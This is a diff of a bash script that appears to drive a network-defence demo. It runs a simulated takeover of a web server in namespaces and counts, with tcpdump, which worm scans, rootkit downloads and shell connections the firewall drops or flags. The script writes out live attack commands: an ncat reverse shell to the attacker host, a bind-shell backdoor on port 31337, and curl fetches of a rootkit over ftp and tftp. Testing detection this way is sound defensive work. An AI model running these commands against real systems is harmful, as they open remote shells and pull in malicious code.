@@ -1,60 +1,61 @@
-# shellcheck shell=bash
+# shellcheck shell=bash disable=SC2034 # ROWS is read by the other pieces
 # The web server is taken over, and two witnesses count what comes of it: one on the server's own
 # wire (what it tried) and one beyond the router (what left). Sourced by scripts/demo.
 
-WORM_TARGETS=120 # of each address family
-CALL_BACKS=6
+WORM_TARGETS=120 # of each address family, in each round
 
-# One row of the table each: name, the packets that are meant, as tcpdump says it, and the
-# drops that are meant, as `show drops -j` names them: protocol and port.
+# One row of the table each: name, the packets that are meant as tcpdump says it, the drops that
+# are meant as the ledger names them, and the alarm they have to raise.
 ROWS=(
-    "worm scans tcp/80|tcp dst port 80|tcp 80"
-    "fetches a rootkit, tcp/21|tcp dst port 21|tcp 21"
-    "fetches a rootkit, udp/69|udp dst port 69|udp 69"
-    "reverse shell to tcp/4444|tcp dst port 4444|tcp 4444"
-    "bind shell on tcp/31337|tcp src port 31337|tcp 31337"
+    "worm scans tcp/80|tcp dst port 80|tcp 80|spread"
+    "fetches a rootkit, tcp/21|tcp dst port 21|tcp 21|fetch"
+    "fetches a rootkit, udp/69|udp dst port 69|udp 69|fetch"
+    "reverse shell to tcp/4444|tcp dst port 4444|tcp 4444|callback"
+    "bind shell on tcp/31337|tcp src port 31337|tcp 31337|backdoor"
 )
 FROM_WEB="(src host $WEB4 or src host $WEB6)"
+INTRUDERS=() # pids
 
-# infect_web: ends when every attempt has succeeded or given up.
+# infect_web PHASE SECONDS UNTIL: worm, reverse shell and the attacker at the back door try again and
+# again, as they do, until the function UNTIL is content or SECONDS are over. The download is tried
+# once: the alarm would rightly be another one if it called the same host all the time.
 infect_web() {
-    local pids=() i
-    [[ -e $FOLDER/worm.py ]] || install -m 755 "$HERE/demo.d/worm.py" "$FOLDER/worm.py"
-    open_backdoor
-    local networks=("$INET4")
+    local phase=$1 networks=("$INET4") worm=$FOLDER/worm.py knocker
     ! has_ipv6 || networks+=("$INET6")
-    run_as_intruder worm 10 "$PYTHON" "$FOLDER/worm.py" "$WORM_TARGETS" "${networks[@]}"
-    run_as_intruder ftp 4 curl -sS "ftp://$ATTACKER4/rootkit.tgz"
-    run_as_intruder tftp 4 curl -sS "tftp://$ATTACKER4/rootkit.tgz"
-    for ((i = 0; i < CALL_BACKS; i++)); do
-        run_as_intruder reverse-shell 3 ncat -n -w 2 -e /bin/sh "$ATTACKER4" 4444
-    done
-    in_namespace inet timeout 4 ncat -n -w 3 -s "$ATTACKER4" "$WEB4" 31337 \
-        <<<'id -un; exit' >"$LOGS/bind-shell" 2>&1 || true
-    wait_until 15 are_groups_gone "${pids[@]}" || die "an attack does not end" "see the logs in $LOGS"
-    kill_group "$BACKDOOR"
+    [[ -e $worm ]] || install -m 755 "$HERE/demo.d/worm.py" "$worm" # www-data can't read every home
+    INTRUDERS=()
+    intrude "backdoor-$phase" ncat -n -l -k -e /bin/sh 31337
+    wait_until 10 is_listening web tcp 31337 || die "the backdoor does not open" "see $LOGS/backdoor-$phase"
+    start_in inet "$LOGS/bind-shell-$phase" sh -c "while :; do
+        echo 'id -un; exit' | ncat -n --no-shutdown -w 3 -s $ATTACKER4 $WEB4 31337; done"
+    knocker=$STARTED
+    intrude_again "worm-$phase" "$PYTHON" "$worm" "$WORM_TARGETS" "${networks[@]}"
+    intrude "ftp-$phase" curl -sS -m 5 "ftp://$ATTACKER4/rootkit.tgz"
+    intrude "tftp-$phase" curl -sS -m 5 "tftp://$ATTACKER4/rootkit.tgz"
+    intrude_again "call-back-$phase" ncat -n -w 1 -e /bin/sh "$ATTACKER4" 4444
+    wait_until "$2" "$3" || true # what has not come is missed by the checks that follow
+    # Who knocks goes first: a refusal of his is no answer of a bind shell.
+    kill_group "$knocker"
+    kill_group "${INTRUDERS[@]}"
+    # The last segments of a dying connection are not part of what comes next.
+    wait_until 10 has_no_connections web || die "connections of the web server do not end"
 }
 
-# run_as_intruder LOG SECONDS COMMAND...: whoever breaks into a web server is www-data first.
-# Appends to the caller's pids.
-run_as_intruder() {
-    start_in web "$LOGS/$1" setpriv --reuid=www-data --regid=www-data --clear-groups \
-        timeout "$2" "${@:3}"
-    pids+=("$STARTED")
+# intrude LOG COMMAND...: whoever breaks into a web server is www-data first.
+intrude() {
+    start_in web "$LOGS/$1" setpriv --reuid=www-data --regid=www-data --clear-groups "${@:2}"
+    INTRUDERS+=("$STARTED")
 }
 
-open_backdoor() {
-    local pids=()
-    run_as_intruder backdoor 60 ncat -n -l -k -e /bin/sh 31337
-    BACKDOOR=$STARTED
-    wait_until 5 is_listening web tcp 31337 || die "the backdoor does not open" "see $LOGS/backdoor"
+# intrude_again LOG COMMAND...
+intrude_again() {
+    # shellcheck disable=SC2016 # expanded by the inner shell
+    intrude "$1" sh -c 'while :; do "$@"; done' - "${@:2}"
 }
 
-are_groups_gone() {
-    local pid
-    for pid; do
-        is_group_gone "$pid" || return 1
-    done
+# has_no_connections MACHINE: a SYN-RECV whose listener is gone lingers, and sends nothing any more.
+has_no_connections() {
+    [[ -z $(in_namespace "$1" ss -Htn state connected exclude time-wait exclude syn-recv) ]]
 }
 
 # start_witnesses PHASE: sets WITNESSES to their pids.
@@ -64,11 +65,14 @@ start_witnesses() {
     start_witness inet "$FOLDER/left-$1.pcap" "src net $DMZ4 or src net $DMZ6"
 }
 
-# start_witness MACHINE FILE FILTER: immediate and unbuffered, so that the file can be asked at any time.
+# start_witness MACHINE FILE FILTER: immediate and unbuffered, so that the file can be asked at any
+# time. The shell opens the file: tcpdump gives root up before it writes, and the remedy, `-Z root`,
+# crashes Ubuntu 24.04's.
 start_witness() {
     local log=$2.log
-    unconfined tcpdump -i eth0 -n -s 128 -U --immediate-mode -Z root -w "$2" "$3"
-    start_in "$1" "$log" "${UNCONFINED[@]}"
+    unconfined tcpdump -i eth0 -n -s 128 -U --immediate-mode -w - "$3"
+    # shellcheck disable=SC2016 # expanded by the inner shell
+    start_in "$1" "$log" sh -c 'exec "$@" >"$0"' "$2" "${UNCONFINED[@]}"
     WITNESSES+=("$STARTED")
     wait_until 10 grep -qs 'listening on' "$log" || die "tcpdump does not start" "see $log"
 }
@@ -84,8 +88,8 @@ stop_witnesses() {
 
 # count_packets FILE FILTER
 count_packets() {
-    unconfined tcpdump -n -r "$1" "$2"
-    "${UNCONFINED[@]}" 2>/dev/null | wc -l
+    unconfined tcpdump -n -r - "$2"
+    "${UNCONFINED[@]}" <"$1" 2>/dev/null | wc -l
 }
 
 # The journal of the attacker: what really worked.
